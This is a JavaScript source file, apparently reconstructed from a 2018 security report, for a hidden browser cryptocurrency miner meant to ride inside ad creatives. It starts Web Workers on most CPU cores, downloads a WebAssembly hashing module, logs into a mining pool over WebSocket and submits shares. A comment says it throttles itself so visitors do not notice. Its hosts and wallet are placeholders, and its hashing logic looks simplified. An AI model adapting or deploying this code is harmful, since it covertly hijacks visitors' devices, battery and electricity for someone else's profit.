// doubleclick-miner, second variant, written from the same Trend Micro report (2018), its
// description of the attackers' private miner: here the ad creative carries the miner
// itself. It builds a Web Worker from a Blob, one per spare core; each worker fetches a
// WebAssembly hashing module, joins the pool over a WebSocket with a stratum-like login,
// hashes the jobs it is given and submits shares, sleeping part of each second so the
// fan does not give it away.
(function () {
  var POOL = "wss://pool-adsdelivery.invalid:3333/proxy";
  var WALLET = "48mAkeUpWa11etAddressForTestsOnlyNotRealXq7Rt3Yp9Wz5Kc2Lm8Nv4Bj6HdQ2";
  var src = [
    "var ws, job, hash;",
    "fetch('https://static-adsdelivery.invalid/wasm/cn.wasm').then(function(r){return r.arrayBuffer();})",
    ".then(function(b){return WebAssembly.instantiate(b,{});}).then(function(m){hash=m.instance.exports.cn_hash;connect();});",
    "function connect(){ws=new WebSocket('" + POOL + "');",
    "ws.onopen=function(){ws.send(JSON.stringify({method:'login',params:{login:'" + WALLET + "',pass:'x',agent:'web'},id:1}));};",
    "ws.onmessage=function(e){var m=JSON.parse(e.data);if(m.params&&m.params.job_id)job=m.params;else if(m.result&&m.result.job)job=m.result.job;};}",
    "function work(){if(job&&hash){var t=Date.now();while(Date.now()-t<200){var n=(Math.random()*4294967295)>>>0;",
    "var r=hash(n);if(r<job.target){ws.send(JSON.stringify({method:'submit',params:{job_id:job.job_id,nonce:n.toString(16),result:r.toString(16)},id:2}));}}}",
    "setTimeout(work,50);}",
    "work();"
  ].join("\n");
  var url = URL.createObjectURL(new Blob([src], { type: "application/javascript" }));
  var n = Math.max(1, Math.floor((navigator.hardwareConcurrency || 4) * 0.75));
  var workers = [];
  for (var i = 0; i < n; i++) workers.push(new Worker(url));
  document.addEventListener("visibilitychange", function () {
    if (document.hidden) return;
    if (navigator.getBattery) navigator.getBattery().then(function (b) {
      if (!b.charging && b.level < 0.2) workers.forEach(function (w) { w.terminate(); });
    });
  });
})();
